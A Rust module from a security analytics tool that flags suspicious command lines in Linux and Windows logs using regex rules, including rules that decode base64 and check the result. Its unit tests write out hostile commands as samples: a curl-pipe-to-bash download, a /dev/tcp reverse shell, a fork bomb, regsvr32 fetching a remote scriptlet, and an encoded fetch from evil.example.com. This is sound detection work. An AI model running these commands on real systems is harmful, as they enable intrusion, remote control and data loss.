//! Rules that command lines break.

use regex::{Regex, RegexBuilder};

use crate::unpack::{Options, unpack};
use crate::{AnalyticsError, Result};

/// Where commands were logged, which tells the rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LogType {
    /// Linux: syslog, sudo, auditd.
    Syslog,
    /// Windows process events.
    Windows,
}

/// Name and expression, for Linux: the first five are MSTICPy's cases.
const SYSLOG: &[(&str, &str)] = &[
    ("authorized_keys", r"authorized_keys"),
    ("download_and_run", r"\b(?:wget|curl)\b[^|]*\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da|k)?sh\b"),
    ("fork_bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
    ("move_to_null", r"\bmv\b.+/dev/null"),
    ("shell", r"/bin/(?:ba)?sh\b"),
    ("reverse_shell", r"/dev/(?:tcp|udp)/|\bnc(?:at)?\b.*\s-[a-z]*e[a-z]*\s|\bsocat\b.*\bexec:"),
    ("decode_and_run", r"\bbase64\b\s+(?:-d|-D|--decode)\b.*\|\s*(?:\S*/)?(?:ba|z|da)?sh\b"),
    ("history_cleared", r"\bhistory\s+-c\b|\bunset\s+HISTFILE\b|>\s*\S*\.bash_history"),
    ("shadow_read", r"/etc/(?:shadow|sudoers)\b"),
    ("set_uid", r"\bchmod\b\s+(?:[ugo]*\+[a-z]*s|[2467][0-7]{3})\b"),
];

/// The same for Windows.
const WINDOWS: &[(&str, &str)] = &[
    ("encoded_command", r"\bp(?:owershell|wsh)(?:\.exe)?\b.*\s[-/]e(?:c|n[a-z]*)?\s+[A-Za-z0-9+/=]{16,}"),
    (
        "download_and_run",
        r"(?:\biex\b|invoke-expression).*(?:downloadstring|downloadfile|invoke-webrequest|\biwr\b|net\.webclient)|(?:downloadstring|invoke-webrequest|\biwr\b).*(?:\biex\b|invoke-expression)",
    ),
    (
        "script_from_url",
        r"\b(?:regsvr32|mshta|rundll32|msiexec|certutil|bitsadmin)(?:\.exe)?\b.*(?:https?|ftp)://",
    ),
    (
        "shadow_copies_deleted",
        r"\bvssadmin(?:\.exe)?\b.*\bdelete\b.*\bshadows\b|\bwmic(?:\.exe)?\b.*\bshadowcopy\b.*\bdelete\b",
    ),
    ("recovery_disabled", r"\bbcdedit(?:\.exe)?\b.*\b(?:recoveryenabled\s+no|ignoreallfailures)\b"),
    ("log_cleared", r"\bwevtutil(?:\.exe)?\b.*\s(?:cl|clear-log)\s|\bclear-eventlog\b"),
    ("account_added", r"\bnet1?(?:\.exe)?\b\s+(?:user|localgroup)\b.*\s/add\b"),
    (
        "credentials_dumped",
        r"\b(?:sekurlsa|lsadump|mimikatz)\b|\bprocdump\S*\b.*\blsass\b|comsvcs\.dll\W+(?:minidump|#24)",
    ),
    ("hidden_window", r"\bp(?:owershell|wsh)(?:\.exe)?\b.*\s[-/]w(?:in[a-z]*)?\s+(?:hidden|1)\b"),
    ("defender_disabled", r"\b(?:set|add)-mppreference\b.*(?:disable|exclusion)"),
];

/// A rule that a command breaks.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hit {
    /// The rule's name.
    pub rule: String,
    /// The text decoded from base64 in which it was found; "" when it was the command itself.
    pub decoded: String,
}

/// Rules, compiled once.
#[derive(Debug, Clone)]
pub struct Rules {
    rules: Vec<(String, Regex)>,
}

impl Rules {
    /// The rules of a log.
    pub fn of(log: LogType) -> Result<Self> {
        let rules = match log {
            LogType::Syslog => SYSLOG,
            LogType::Windows => WINDOWS,
        };
        Self::new(rules.iter().map(|(name, regex)| (*name, *regex)))
    }

    /// Rules of one's own: names and regular expressions, which are looked for anywhere in a command, in any case.
    pub fn new<'r>(rules: impl Iterator<Item = (&'r str, &'r str)>) -> Result<Self> {
        let compile = |(name, regex): (&str, &str)| {
            let compiled = RegexBuilder::new(regex)
                .case_insensitive(true)
                .dot_matches_new_line(true)
                .size_limit(2 << 20)
                .build();
            compiled.map(|compiled| (name.to_owned(), compiled)).map_err(|_| {
                let hint = "Give a regular expression without look-around and backreferences.";
                AnalyticsError::argument(
                    "detection_rules",
                    format_args!("has an expression for `{name}` that cannot be used"),
                    hint,
                )
            })
        };
        Ok(Self { rules: rules.map(compile).collect::<Result<_>>()? })
    }

    /// The rules that a command breaks, in the order of the rules; in the command itself, or in what its base64 holds.
    pub fn find(&self, command: &str) -> Vec<Hit> {
        let unpacked = unpack(command, &Options::default());
        let texts: Vec<&str> =
            unpacked.items.iter().filter_map(|item| item.decoded_string.as_deref()).collect();
        let mut hits = Vec::new();
        for (name, regex) in &self.rules {
            if regex.is_match(command) {
                hits.push(Hit { rule: name.clone(), decoded: String::new() });
            } else if let Some(text) = texts.iter().find(|text| regex.is_match(text)) {
                hits.push(Hit { rule: name.clone(), decoded: (*text).to_owned() });
            }
        }
        hits
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(log: LogType, command: &str) -> Vec<String> {
        Rules::of(log).unwrap().find(command).into_iter().map(|hit| hit.rule).collect()
    }

    #[test]
    fn commands_break_rules() {
        let linux = |command| names(LogType::Syslog, command);
        assert_eq!(linux("echo key >> /root/.ssh/authorized_keys"), ["authorized_keys"]);
        assert_eq!(linux("curl -s http://x/a.sh | sudo bash"), ["download_and_run"]);
        assert_eq!(linux(":(){ :|:& };:"), ["fork_bomb"]);
        assert_eq!(linux("mv /var/log/secure /dev/null"), ["move_to_null"]);
        assert_eq!(linux("sudo /bin/bash"), ["shell"]);
        assert_eq!(linux("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ["reverse_shell"]);
        assert!(linux("ls -l /tmp").is_empty() && linux("").is_empty());
        let windows = |command| names(LogType::Windows, command);
        assert_eq!(windows("vssadmin.exe delete shadows /all"), ["shadow_copies_deleted"]);
        assert_eq!(windows("net user bob pw /add"), ["account_added"]);
        assert_eq!(windows("regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll"), ["script_from_url"]);
        assert!(windows("notepad.exe c:\\x.txt").is_empty());
    }

    #[test]
    fn what_base64_holds_is_tested() {
        // curl http://evil.example.com/a.sh | bash
        let hits = Rules::of(LogType::Syslog)
            .unwrap()
            .find("echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9hLnNoIHwgYmFzaA==");
        assert!(
            hits.iter().any(|hit| hit.rule == "download_and_run" && hit.decoded.starts_with("curl")),
            "{hits:?}"
        );
    }
}
